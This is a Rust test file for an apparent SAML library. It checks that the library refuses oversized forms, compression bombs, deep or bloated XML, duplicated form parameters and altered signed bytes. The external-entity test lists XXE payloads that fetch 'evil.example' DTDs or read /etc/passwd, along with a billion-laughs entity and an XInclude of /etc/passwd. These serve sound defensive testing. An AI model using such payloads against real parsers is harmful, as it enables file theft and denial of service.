//! Too much, too many, from elsewhere, or broken (A24 to A26, A31, A38).

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use miniz_oxide::deflate::compress_to_vec;
use vestibule::dsig::verify_octets;
use vestibule::gate::read_form;
use vestibule::limits;
use vestibule::refusals::Refusal::*;
use vestibule::saml::idp::IdentityProvider;
use vestibule::xml::decode_base64;

use super::markup::{changed, inserted, texts};
use super::shapes::{all, plain};
use super::support::response::{NOW, accept_from, idp_json};
use super::support::{RSA_SHA256, public_key, sign_octets};
use super::tally::Tally;

const FORM: Option<&str> = Some("application/x-www-form-urlencoded");

pub fn a24_too_much(tally: &mut Tally) {
    let form =
        |size: usize| read_form(FORM, format!("SAMLResponse={}", "x".repeat(size)).as_bytes());
    tally.accepted_if("a field of the limit", form(limits::SAML_FIELD).is_ok());
    tally.refused_for("one more", form(limits::SAML_FIELD + 1), &[FormTooLarge]);
    tally.refused_for("10 MB", form(10_000_000), &[FormTooLarge]);
    let idp = IdentityProvider::from_json("test", &idp_json(&["rsa"])).unwrap();
    for shape in plain() {
        tally.accept(&shape.name, &shape.good, shape);
        // A posted message is never inflated: a bomb stays what it is.
        for bomb in [vec![0; 1_000_000], shape.good.clone().into_bytes()] {
            let deflated = STANDARD.encode(compress_to_vec(&bomb, 9));
            let octets = decode_base64(&deflated).unwrap();
            let outcome = accept_from(&idp, &octets, NOW);
            tally.refused_for("deflated", outcome, &[XmlEncoding, XmlMalformed]);
        }
        let room = limits::SAML_MESSAGE - shape.good.len();
        let padded = |more: usize| format!("{}{}", shape.good, "\n".repeat(more));
        tally.accept("a message of the limit", &padded(room), shape);
        tally.refuse("one byte more", &padded(room + 1), XmlTooLarge);
        let long = "x".repeat(limits::XML_TEXT + 1);
        tally.refuse(
            "a long text",
            &changed(&shape.good, ">HR<", &format!(">{long}<")),
            XmlTooLarge,
        );
        for name_id in ["x".repeat(limits::NAME_ID + 1), "x".repeat(limits::XML_TEXT)] {
            let xml = shape.sign_changed(">alice@example.com<", &format!(">{name_id}<"));
            tally.refuse("a long NameID", &xml, NameIdUnusable);
        }
    }
}

pub fn a25_too_many(tally: &mut Tally) {
    let nested = |levels: usize| format!("{}{}", "<x>".repeat(levels), "</x>".repeat(levels));
    let numbered = |count: usize, one: &str| {
        (0..count).map(|n| one.replace('#', &n.to_string())).collect::<String>()
    };
    for shape in all() {
        let good = &shape.good;
        tally.accept(&shape.name, good, shape);
        let put = |more: &str| changed(good, "<samlp:Status>", &format!("{more}<samlp:Status>"));
        for (name, xml) in [
            ("levels", put(&nested(limits::XML_DEPTH))),
            ("10 000 levels", put(&nested(10_000))),
            ("elements", put(&"<x/>".repeat(limits::XML_ELEMENTS))),
            ("attributes", put(&format!("<x{}/>", numbered(33, " a#=''")))),
            ("50 000 attributes", put(&format!("<x{}/>", numbered(50_000, " a#=''")))),
            ("declarations", put(&format!("<x{}/>", numbered(17, " xmlns:a#='urn:x'")))),
            ("5 000 declarations", put(&format!("<x{}/>", numbered(5_000, " xmlns:a#='urn:x'")))),
            ("a long attribute", put(&format!("<x a='{}'/>", "x".repeat(limits::XML_TEXT + 1)))),
        ] {
            tally.refuse(format!("{}: {name}", shape.name), &xml, XmlTooLarge);
        }
        let laughs = "<!DOCTYPE l [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;'>]>";
        tally.refuse(format!("{}: laughs", shape.name), &format!("{laughs}{good}"), XmlDoctype);
        for text in texts(good) {
            let xml = inserted(good, text.end, "&b;&b;&b;");
            tally.refuse(format!("{}: an entity", shape.name), &xml, XmlEntity);
        }
    }
    for shape in plain() {
        let values = |count: usize, of: &str| {
            let more = "<saml:AttributeValue>x</saml:AttributeValue>".repeat(count);
            let attribute = format!("<saml:Attribute Name=\"{of}\">{more}</saml:Attribute>");
            shape.sign_changed(
                "</saml:AttributeStatement>",
                &format!("{attribute}</saml:AttributeStatement>"),
            )
        };
        let groups = limits::GROUPS - shape.subject.groups.len();
        tally.accepted_if(
            "groups",
            super::support::response::accepted(&values(groups, "memberOf")).is_ok(),
        );
        tally.refuse("one group more", &values(groups + 1, "memberOf"), AttributesTooMany);
        tally.accept("values", &values(limits::ATTRIBUTE_VALUES - 2, "other"), shape);
        tally.refuse(
            "one value more",
            &values(limits::ATTRIBUTE_VALUES - 1, "other"),
            AttributesTooMany,
        );
    }
}

/// Nothing is fetched: there is nothing here that could.
pub fn a26_external_entities(tally: &mut Tally) {
    for shape in all() {
        tally.accept(&shape.name, &shape.good, shape);
        for doctype in [
            "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\">",
            "<!DOCTYPE r PUBLIC \"x\" \"http://evil.example/x.dtd\">",
            "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
            "<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://evil.example/\"> %x;]>",
            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ELEMENT r ANY>]>",
        ] {
            let xml = changed(&shape.good, ">HR<", ">&x;<");
            tally.refuse(
                format!("{}: {doctype}", shape.name),
                &format!("{doctype}{xml}"),
                XmlDoctype,
            );
            tally.refuse(format!("{}: without it", shape.name), &xml, XmlEntity);
        }
        let include = "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>";
        let xml = changed(&shape.good, "<samlp:Status>", &format!("{include}<samlp:Status>"));
        tally.refuse(format!("{}: XInclude", shape.name), &xml, SamlUnexpected);
    }
}

/// Parameters twice, both messages at once, and octets that are not those that were signed.
pub fn a31_parameters(tally: &mut Tally) {
    for good in [
        "SAMLResponse=x",
        "SAMLResponse=x&RelayState=y",
        "RelayState=y&SAMLResponse=x&other=z&other=z",
    ] {
        tally.accepted_if(good, read_form(FORM, good.as_bytes()).is_ok());
    }
    let parts = [
        "SAMLResponse=x",
        "SAMLResponse=y",
        "%53AMLResponse=x",
        "SAMLRequest=x",
        "RelayState=a",
        "RelayState=b",
    ];
    for one in parts {
        for two in parts {
            for three in parts {
                let body = [one, two, three].join("&");
                tally.refused_for(&body, read_form(FORM, body.as_bytes()), &[FormMalformed]);
            }
        }
    }
    for media in [
        None,
        Some("text/plain"),
        Some("multipart/form-data; boundary=x"),
        Some("application/json"),
    ] {
        tally.refused_for(
            media.unwrap_or("none"),
            read_form(media, b"SAMLResponse=x"),
            &[FormMalformed],
        );
    }
    let octets = "SAMLResponse=a%2bb&RelayState=c&SigAlg=d";
    let signature = sign_octets("rsa", RSA_SHA256, octets.as_bytes());
    let verify = |octets: &str| {
        verify_octets(RSA_SHA256, octets.as_bytes(), &signature, &[public_key("rsa")])
    };
    tally.accepted_if("octets as received", verify(octets).is_ok());
    for other in [
        "SAMLResponse=a%2Bb&RelayState=c&SigAlg=d",
        "SAMLResponse=a+b&RelayState=c&SigAlg=d",
        "RelayState=c&SAMLResponse=a%2bb&SigAlg=d",
        "SAMLResponse=a%2bb&SigAlg=d",
        "SAMLRequest=a%2bb&RelayState=c&SigAlg=d",
        "",
    ] {
        tally.refused_for(other, verify(other), &[SignatureWrong]);
    }
}

/// Cut off at every byte, and with every third byte changed: no panic, and never another subject.
pub fn a38_broken_bytes(tally: &mut Tally) {
    let idp = IdentityProvider::from_json("test", &idp_json(&["rsa"])).unwrap();
    let shape = &plain()[0];
    tally.accept(&shape.name, &shape.good, shape);
    let good = shape.good.as_bytes();
    for end in 0..good.len() {
        tally.refused_for(end, accept_from(&idp, &good[..end], NOW), &[XmlMalformed]);
    }
    for at in (0..good.len()).step_by(3) {
        for change in [0x01, 0x20, 0x80] {
            let mut bytes = good.to_vec();
            bytes[at] ^= change;
            match String::from_utf8(bytes) {
                Ok(xml) => tally.refuse_or_same(format!("byte {at}"), &xml, shape),
                Err(error) => {
                    let outcome = accept_from(&idp, error.as_bytes(), NOW);
                    tally.refused_for(format!("byte {at}"), outcome, &[XmlEncoding]);
                }
            }
        }
    }
}
